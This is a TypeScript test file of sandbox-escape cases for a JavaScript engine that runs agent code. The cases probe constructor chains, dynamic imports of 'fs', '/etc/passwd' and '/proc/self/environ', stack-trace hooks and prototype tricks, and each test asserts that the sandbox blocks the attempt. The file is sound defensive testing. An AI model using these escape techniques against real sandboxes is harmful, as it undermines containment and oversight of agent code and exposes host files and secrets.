import type { Outcome } from '../../../worker/sandbox/sandbox-types.ts';
import { body, gives, moduleOf, type Attack } from './case.ts';

// What a way out of the engine would be called.
const names = [
  'process',
  'require',
  'module',
  'global',
  'Buffer',
  'fetch',
  'XMLHttpRequest',
  'WebAssembly',
  'Worker',
  'postMessage',
  'parentPort',
  'std',
  'os',
  'bjson',
  'scriptArgs',
  'print',
  'navigator',
  'performance',
  'Deno',
  'Bun',
  'host',
  'load',
  'SharedArrayBuffer',
  'Atomics',
];

/** Statements that define `reached(global)`: the names of ways out that are there. */
const reached = `const reached = (g) => ${JSON.stringify(names)}.filter((name) => { try { return g[name] !== undefined; } catch { return false; } });`;

const nothing = gives('[]');
const safe = ['OK'] as const;

/** What is said of an error must not be of the host. */
function tellsNothingOfTheHost({ output, error }: Outcome): string | null {
  const said = `${output} ${error?.message}`;
  return /file:|node:|node_modules|\/sandbox\/|\.ts\b|worker/i.test(said)
    ? `tells of the host: ${said.slice(0, 300)}`
    : null;
}

/** Ways out: constructors, imports, errors, prototypes, and the functions the agent is given. */
export const escapeAttacks: Attack[] = [
  body(
    'escape-constructor',
    safe,
    `${reached}
    const found = [];
    for (const value of [{}, [], () => 1, 'x', 1, /x/, new Date(), new Map(), Promise.resolve(), async () => 1, function* () {}, async function* () {}, input, api]) {
      try { found.push(...reached(value.constructor.constructor('return this')())); } catch {}
      try { found.push(...reached(Object.getPrototypeOf(value).constructor('return globalThis')())); } catch {}
    }
    return found;`,
    { check: nothing },
  ),
  body(
    'escape-log-constructor',
    safe,
    `${reached}
    const found = [];
    for (const given of [api.log, api.emit, api.progress, api.random, api.now, console.log, setTimeout, queueMicrotask, Math.random, Date, api.tools.test.echo]) {
      try { found.push(...reached(given.constructor('return this')())); } catch {}
      for (const way of ['caller', 'arguments', 'callee']) try { if (given[way] != null) found.push(way); } catch {}
    }
    return found;`,
    { check: nothing, spec: { tools: ['test.echo'] } },
  ),
  body(
    'escape-import',
    safe,
    `const found = [];
    for (const name of ['fs', 'node:fs', 'std', 'os', 'qjs:std', 'qjs:os', 'agent.js', 'quarry.js', './agent.js', 'file:///etc/passwd', 'data:text/javascript,export default 1', 'https://example.test/x.js']) {
      try { const m = await import(name); if (name !== 'agent.js' && name !== './agent.js') found.push(name); } catch {}
    }
    return found;`,
    { check: nothing },
  ),
  body('escape-import-meta', safe, 'return Object.keys(import.meta).concat(String(import.meta.url ?? ""));', {
    check: tellsNothingOfTheHost,
  }),
  body(
    'escape-std-os',
    safe,
    `${reached} return reached(globalThis).concat(reached((0, eval)('this')), reached(new Function('return this')()));`,
    { check: nothing },
  ),
  body(
    'escape-error-prepare',
    safe,
    `const seen = [];
    Error.prepareStackTrace = (error, frames) => { seen.push(typeof frames, String(frames?.[0]?.getFileName?.()), String(frames?.[0]?.getThis?.() === globalThis)); return 'made'; };
    Error.stackTraceLimit = 1000;
    try { null.x; } catch (error) { seen.push(String(error.stack)); }
    try { api.tools.test.echo(); } catch (error) { seen.push(String(error.stack)); }
    return seen;`,
    { check: tellsNothingOfTheHost, spec: { tools: ['test.echo'] } },
  ),
  body(
    'escape-atomics-wait',
    safe,
    "return [typeof Atomics, typeof SharedArrayBuffer, (() => { try { return eval('Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)'); } catch { return 'refused'; } })()];",
    { check: gives('["undefined","undefined","refused"]') },
  ),
  body(
    'escape-webassembly',
    safe,
    "try { return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) && 'made'; } catch { return 'refused'; }",
    { check: gives('"refused"') },
  ),
  body(
    'with-proxy-has',
    safe,
    `const names = [];
    const scope = new Proxy({}, { has(_, name) { names.push(String(name)); return false; }, get() { return undefined; } });
    try { new Function('scope', 'with (scope) { return process; }')(scope); } catch {}
    return names.filter((name) => name !== 'process' && name !== 'Symbol(Symbol.unscopables)');`,
    { check: nothing },
  ),
  body(
    'escape-symbol-species',
    safe,
    `${reached}
    class Sly extends Array { static get [Symbol.species]() { return function () { return globalThis; }; } }
    try { new Sly(1, 2, 3).map((x) => x); } catch {}
    return reached(globalThis);`,
    { check: nothing },
  ),
  body(
    'escape-getter-on-global',
    safe,
    `let seen = [];
    for (const name of ['host', 'resolve', 'reject', 'output', 'result', 'json']) Object.defineProperty(globalThis, name, { configurable: true, get() { seen.push(name); } });
    api.log('x'); await 0; return seen;`,
    { check: nothing },
  ),
  body(
    'escape-setter-on-prototype',
    safe,
    `const caught = [];
    for (const key of ['id', 'at', 'run', 'args', 'every', 'code', 'then', 'level', 'stack']) {
      Object.defineProperty(Object.prototype, key, { configurable: true, set(v) { caught.push([key, typeof v]); }, get() { return undefined; } });
    }
    setTimeout(() => {}, 1); api.log({}); try { await api.tools.test.bad(); } catch {}
    for (const key of ['id', 'at', 'run', 'args', 'every', 'code', 'then', 'level', 'stack']) delete Object.prototype[key];
    return caught.filter(([, type]) => type === 'function');`,
    { check: nothing, spec: { tools: ['test.bad'] }, onTool: () => Promise.reject(new Error('failed')) },
  ),
  body(
    'escape-array-iterator',
    safe,
    `const own = []; const real = Array.prototype[Symbol.iterator];
    Array.prototype[Symbol.iterator] = function () { own.push(this.length); return real.call(this); };
    api.log('one', 2); const d = new Date(5); Array.prototype[Symbol.iterator] = real;
    return typeof d.getTime();`,
    { check: gives('"number"') },
  ),
  body(
    'escape-function-tostring',
    safe,
    'return [api.log, api.emit, setTimeout, Math.random, Date].map(String).join().slice(0, 2000);',
    { check: tellsNothingOfTheHost },
  ),
  body(
    'escape-stack-of-host-function',
    safe,
    `const stacks = [];
    try { api.emit({ get x() { throw new Error('inside'); } }); } catch (e) { stacks.push(e.stack); }
    try { JSON.stringify({ toJSON() { throw new Error('inside'); } }); } catch (e) { stacks.push(e.stack); }
    return stacks.join();`,
    { check: tellsNothingOfTheHost },
  ),
  body(
    'escape-clock-and-zone',
    safe,
    "return [new Date(0).getTimezoneOffset(), new Date(0).toString().includes('GMT+0000') || new Date(0).toString().includes('UTC'), typeof Intl];",
    { check: gives('[0,true,"undefined"]') },
  ),
  body(
    'clock-date-resolution',
    safe,
    'const from = Date.now(); for (let i = 0; i < 2e5; i++); return Date.now() - from;',
    { check: gives('1') },
  ),
  body('random-seed', safe, 'return [Math.random() === Math.random(), Math.random() < 1, api.random() >= 0];', {
    check: gives('[false,true,true]'),
  }),
  body('import-dynamic-http', ['GUEST_ERROR'], "return await import('https://example.test/agent.js');", {
    check: tellsNothingOfTheHost,
  }),
  {
    name: 'import-relative-traversal',
    code: "import '../../etc/passwd'; export default () => 1;",
    allowed: ['GUEST_ERROR'],
    check: tellsNothingOfTheHost,
  },
  {
    name: 'import-json',
    code: "import x from '/proc/self/environ' with { type: 'json' }; export default () => x;",
    allowed: ['GUEST_ERROR'],
    check: tellsNothingOfTheHost,
  },
  {
    name: 'import-itself',
    code: "import * as self from 'agent.js'; export default () => Object.keys(self);",
    allowed: ['OK', 'GUEST_ERROR'],
    check: tellsNothingOfTheHost,
  },
  {
    name: 'escape-export-getter',
    code: 'export { f as default }; const f = new Proxy(() => 1, { get() { throw 1; }, apply: () => 7 });',
    allowed: ['OK', 'GUEST_ERROR'],
    check: gives('7'),
  },
  {
    name: 'escape-sourcemap-url',
    code: `${moduleOf('return 1;')}\n//# sourceMappingURL=http://127.0.0.1:1/x.map`,
    allowed: ['OK'],
    check: gives('1'),
  },
  {
    name: 'escape-nul-in-code',
    code: "export default () => 'a\0b'.length;",
    allowed: ['OK', 'GUEST_ERROR'],
    check: gives('3'),
  },
  {
    name: 'escape-bom-and-hashbang',
    code: '\ufeff#!/usr/bin/env node\nexport default () => 1;',
    allowed: ['OK', 'GUEST_ERROR'],
    check: gives('1'),
  },
];
